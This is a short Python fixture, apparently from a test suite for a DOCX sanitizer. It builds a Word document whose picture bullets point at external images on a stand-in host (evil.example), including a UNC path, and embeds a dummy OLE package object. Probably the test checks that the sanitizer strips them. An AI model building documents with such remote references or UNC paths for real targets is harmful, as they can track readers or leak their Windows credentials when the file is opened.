# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit
from recipes_ooxml import *

PICTURE = '<w:pict><v:shape id="s{0}" style="width:9pt;height:9pt" o:bullet="t"><v:imagedata r:id="rId{0}" o:title="b"/></v:shape>{1}</w:pict>'
OBJECT = '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s3" r:id="rId2"/>'
emit(docx(paragraph('KEPT'), [('rId1', 'numbering', 'numbering.xml'), ('rId2', 'image', 'http://evil.example/background.png', 'External')], namespaces=VML,
          parts={'word/numbering.xml': f'<w:numbering {W} {R} {VML}><w:numPicBullet w:numPicBulletId="0">{PICTURE.format(1, "")}</w:numPicBullet>'
                 f'<w:numPicBullet w:numPicBulletId="1">{PICTURE.format(3, OBJECT)}</w:numPicBullet>'
                 '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/><w:lvlPicBulletId w:val="0"/></w:lvl></w:abstractNum>'
                 '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>',
                 'word/_rels/numbering.xml.rels': relationships([('rId1', 'image', 'http://evil.example/bullet.png', 'External'), ('rId2', 'oleObject', 'embeddings/oleObject1.bin'),
                                                                 ('rId3', 'image', '\\\\evil.example\\b.png', 'External')]),
                 'word/embeddings/oleObject1.bin': b'DOCX11-OLE-MARK' * 9},
          types={'word/numbering.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml'}))
